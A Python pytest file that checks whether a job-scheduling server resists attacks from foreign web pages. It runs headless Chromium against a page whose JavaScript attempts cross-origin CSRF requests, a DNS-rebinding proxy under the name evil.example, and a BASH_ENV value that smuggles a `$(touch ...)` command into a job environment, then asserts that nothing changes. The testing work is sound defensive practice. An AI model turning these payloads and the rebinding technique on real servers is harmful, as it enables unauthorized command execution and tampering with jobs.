"""A real browser on the server's machine, run by the server's own user, opens foreign pages: they try everything that
pages can do, and nothing changes."""

import http.server
import json
import os
import shutil
import socket
import subprocess
import threading

import pytest

from docket_server import Server, request

ATTACK_S = 90  # the browser starts slowly on a busy machine

# Tries everything against TARGETS, each a base URL of the server, then reports to its own server
# what it saw.
SCRIPT = r"""
const added = JSON.stringify({id: 'evil', run: {cmd: 'true', cpus: 0.01, mem: 32, disk: 0}});
const seen = [];

async function tryFetch(what, url, options) {
  try {
    const answer = await fetch(url, options);
    seen.push([what, answer.type, answer.status, (await answer.text()).length]);
  } catch (error) {
    seen.push([what, 'refused', 0, 0]);
  }
}

function load(kind, url) {
  return new Promise((done) => {
    const element = document.createElement(kind);
    element.onload = element.onerror = () => done();
    setTimeout(done, 3000);
    element.src = url;
    document.body.append(element);
  });
}

function submit(url, enctype, name, value) {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  const form = document.createElement('form');
  Object.assign(form, {action: url, method: 'POST', enctype, target: frame.name});
  const field = document.createElement('input');
  Object.assign(field, {name, value});
  form.append(field);
  document.body.append(frame, form);
  return new Promise((done) => {
    frame.onload = () => done();
    setTimeout(done, 3000);
    form.submit();
  });
}

function listen(url) {
  return new Promise((done) => {
    const source = new EventSource(url);
    const end = (what) => () => { seen.push(['events ' + url, what, 0, 0]); source.close(); done(); };
    source.onopen = end('open');
    source.onerror = end('refused');
    setTimeout(end('refused'), 3000);
  });
}

function talk(url) {
  return new Promise((done) => {
    const socket = new WebSocket(url.replace('http:', 'ws:'));
    socket.onopen = () => { seen.push(['socket', 'open', 0, 0]); done(); };
    socket.onerror = () => { seen.push(['socket', 'refused', 0, 0]); done(); };
  });
}

async function attack({metronome, hub, scylla, ended, proof}) {
  const text = JSON.stringify({env: {BASH_ENV: `$(touch ${proof})`}, description: 'by a page'});
  const runs = metronome + '/v1/jobs/victim/runs';
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
    await tryFetch('post ' + type, runs, {method: 'POST', mode: 'no-cors', body: text, headers: {'Content-Type': type}});
  }
  await tryFetch('post untyped', runs, {method: 'POST', mode: 'no-cors', body: new Blob([text])});
  await tryFetch('post empty', runs, {method: 'POST', mode: 'no-cors'});
  await tryFetch('post hub', hub + '/service/metronome/v1/jobs/victim/runs', {method: 'POST', mode: 'no-cors', body: text});
  await tryFetch('post native', hub + '/docket/v1/jobs/victim/runs', {method: 'POST', mode: 'no-cors', body: text});
  await tryFetch('post unread', runs, {method: 'POST', mode: 'no-cors', keepalive: true, referrerPolicy: 'no-referrer'});
  navigator.sendBeacon(runs, text);
  await submit(runs, 'text/plain', text.slice(0, -1) + ',"x":"', '"}');
  await submit(runs, 'application/x-www-form-urlencoded', 'a', 'b');
  await submit(hub + '/docket/v1/maintenance/verify', 'multipart/form-data', 'a', 'b');
  for (const kind of ['img', 'script', 'iframe']) {
    await load(kind, scylla + '/tasks/compaction/keyspace_scrub/docket?via=' + kind);
    await load(kind, hub + '/tasks/compaction/keyspace_upgrade_sstables/docket?via=' + kind);
    await load(kind, scylla + '/task_manager/task_status/' + ended + '?via=' + kind);
  }
  await tryFetch('get scrub', scylla + '/storage_service/keyspace_scrub/docket', {mode: 'no-cors'});
  await tryFetch('post ttl', scylla + '/task_manager/ttl?ttl=77', {method: 'POST', mode: 'no-cors'});
  await tryFetch('post backup', scylla + '/tasks/maintenance/backup?file=evil.db', {method: 'POST', mode: 'no-cors'});
  await tryFetch('read jobs', metronome + '/v1/jobs', {});
  await tryFetch('read runs', hub + '/docket/v1/runs', {});
  await tryFetch('read with credentials', metronome + '/v1/jobs', {credentials: 'include'});
  await tryFetch('create', metronome + '/v1/jobs', {method: 'POST', body: added, headers: {'Content-Type': 'application/json'}});
  await tryFetch('create unasked', metronome + '/v1/jobs', {method: 'POST', mode: 'no-cors', body: added});
  await tryFetch('delete', metronome + '/v1/jobs/victim', {method: 'DELETE'});
  await tryFetch('put', metronome + '/v1/jobs/victim', {method: 'PUT', body: added, headers: {'Content-Type': 'application/json'}});
  await tryFetch('with a token', metronome + '/v1/jobs', {headers: {Authorization: 'token=x'}});
  await listen(metronome + '/v1/events');
  await listen(hub + '/docket/v1/events?follow=true');
  await talk(metronome + '/v1/events');
}

(async () => {
  for (const target of TARGETS) await attack(target);
  await fetch(REPORT, {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
})();
"""


class Site:
    """A foreign web site on another address of this machine: its one page, and what it reports."""

    def __init__(self, address="127.0.0.2", port=0):
        self.page = b""
        self.reported = threading.Event()
        self.report = None
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                body = site.page if self.path == "/page" else b""
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(204)
                self.end_headers()
                if self.path == "/report":
                    site.report = json.loads(body)
                    site.reported.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer((address, port), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def write(self, targets, report=None):
        known = f"const TARGETS = {json.dumps(targets)}; const REPORT = {json.dumps(report or '/report')};"
        self.page = f"<!doctype html><body><script>{known}{SCRIPT}</script></body>".encode()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Rebound:
    """What a rebound name gives a browser: first the foreign page, then the server itself. The name keeps its address
    here, and behind that address connections are forwarded byte by byte."""

    def __init__(self, site, target):
        self.site, self.target = site, target
        self.listener = socket.create_server(("127.0.0.2", target[1]))
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.pass_on, args=(client,), daemon=True).start()

    def pass_on(self, client):
        first = client.recv(65536)
        to = ("127.0.0.2", self.site.port) if first.startswith(b"GET /page ") else self.target
        with client, socket.create_connection(to) as server:
            server.sendall(first)
            back = threading.Thread(target=self.pump, args=(server, client), daemon=True)
            back.start()
            self.pump(client, server)
            back.join()

    @staticmethod
    def pump(source, sink):
        try:
            while data := source.recv(65536):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def close(self):
        self.listener.close()


def visit(site, url, directory, *flags):
    """Opens the page in a new browser and waits for its report."""
    browser = subprocess.Popen(
        [
            shutil.which("chromium") or "chromium",
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--disable-dev-shm-usage",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={directory}",
            "--remote-debugging-port=0",  # otherwise the browser would exit once the page is loaded
            *flags,
            url,
        ],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    errors = []
    threading.Thread(target=lambda: errors.extend(browser.stderr), daemon=True).start()
    try:
        assert site.reported.wait(ATTACK_S), b"".join(errors[-20:]).decode()
    finally:
        os.killpg(browser.pid, 9)
        browser.wait()
    return site.report


class Victim:
    """A server with a job, an ended task that is still listed, and a summary of everything that could change."""

    def __init__(self, directory):
        self.server = Server(directory / "data", "--enable-test-api").start()
        self.proof = directory / "proof"  # written by a command if a page managed to run one
        self.server.add("victim", "bash -c true")
        base = self.server.scylla
        self.server.call("POST", "/task_manager_test/test_module", base=base)
        self.server.call("POST", "/task_manager/user_ttl?user_ttl=3600", base=base)
        self.server.call("POST", "/task_manager/ttl?ttl=3600", base=base)
        self.ended = self.server.call("POST", "/task_manager_test/test_task", base=base)[1]
        self.server.call("POST", f"/task_manager_test/finish_test_task/{self.ended}", base=base)

    def targets(self, host="127.0.0.1"):
        urls = {
            door: getattr(self.server, door).replace("127.0.0.1", host)
            for door in ("metronome", "hub", "scylla")
        }
        return {**urls, "ended": self.ended, "proof": str(self.proof)}

    def state(self):
        server = self.server
        return {
            "jobs": server.call("GET", "/v1/jobs?embed=schedules"),
            "runs": list(server.pages("/runs?limit=500")),
            "tasks": [(task["id"], task["state"]) for task in server.pages("/tasks?limit=500")],
            "ttl": server.call("GET", "/task_manager/ttl", base=server.scylla),
            "listed": server.call("GET", "/task_manager/list_module_tasks/test", base=server.scylla),
            "backups": server.native("GET", "/tasks?module=maintenance"),
        }


@pytest.fixture(scope="module")
def victim(tmp_path_factory):
    made = Victim(tmp_path_factory.mktemp("victim"))
    yield made
    made.server.stop_everything()


@pytest.fixture
def site():
    made = Site()
    yield made
    made.close()


def expect_refusals(seen):
    """Requests whose answers a page may not see are `opaque` to it; it saw all others refused."""
    assert len(seen) > 20
    for what, kind, status, size in seen:
        assert kind in ("refused", "opaque") and status == 0 and size == 0, what
    kinds = {what: kind for what, kind, _, _ in seen}
    for what in ("read jobs", "read runs", "create", "delete", "put", "with a token", "socket"):
        assert kinds[what] == "refused", what


@pytest.mark.parametrize("host", ["127.0.0.2", "localhost"], ids=["another site", "another port"])
def test_a_page_of_another_origin_changes_nothing(victim, tmp_path, host):
    site = Site("127.0.0.1" if host == "localhost" else host)
    try:
        before = victim.state()
        site.write([victim.targets("127.0.0.1"), victim.targets("localhost")])
        seen = visit(site, f"http://{host}:{site.port}/page", tmp_path / "browser")
        expect_refusals(seen)
        assert victim.state() == before
        assert not victim.proof.exists()
    finally:
        site.close()


def test_a_foreign_name_for_this_machine_changes_nothing(victim, tmp_path, site):
    """A foreign name that resolves to this machine, requested from the foreign page."""
    before = victim.state()
    site.write([victim.targets("evil.example")])
    seen = visit(
        site,
        f"http://127.0.0.2:{site.port}/page",
        tmp_path / "browser",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
    )
    expect_refusals(seen)
    assert victim.state() == before


@pytest.mark.parametrize("door", ["metronome", "hub", "scylla"])
def test_a_rebound_name_changes_nothing(victim, tmp_path, site, door):
    """The page and the server have the same name and port, so to the browser they are one origin."""
    port = int(getattr(victim.server, door).rsplit(":", 1)[1])
    rebound = Rebound(site, ("127.0.0.1", port))
    try:
        before = victim.state()
        own = f"http://evil.example:{port}"
        target = {**victim.targets(), "metronome": own, "hub": own, "scylla": own}
        site.write([target], report=f"http://127.0.0.2:{site.port}/report")
        seen = visit(
            site,
            f"http://evil.example:{port}/page",
            tmp_path / "browser",
            "--host-resolver-rules=MAP evil.example 127.0.0.2",
        )
        fetched = [entry for entry in seen if entry[1] in ("basic", "cors", "default")]
        assert len(fetched) > 15, seen
        for what, _, status, _ in fetched:
            assert status == 421, what
        assert all(kind == "refused" for what, kind, _, _ in seen if what.startswith("events"))
        assert victim.state() == before
    finally:
        rebound.close()


def test_what_pages_try_works_for_other_clients(tmp_path):
    """For a client that is not a page; otherwise the tests above would prove nothing."""
    victim = Victim(tmp_path)
    try:
        before = victim.state()
        base = victim.server.metronome
        assert request(base, "POST", "/v1/jobs/victim/runs", b"{}", {"Content-Type": "text/plain"}).status == 201
        scrub = "/tasks/compaction/keyspace_scrub/docket"
        assert request(victim.server.scylla, "GET", scrub).status == 200
        assert request(victim.server.scylla, "POST", "/task_manager/ttl?ttl=77").status == 200
        after = victim.state()
        for what in ("runs", "tasks", "ttl", "backups"):
            assert after[what] != before[what], what
    finally:
        victim.server.stop_everything()
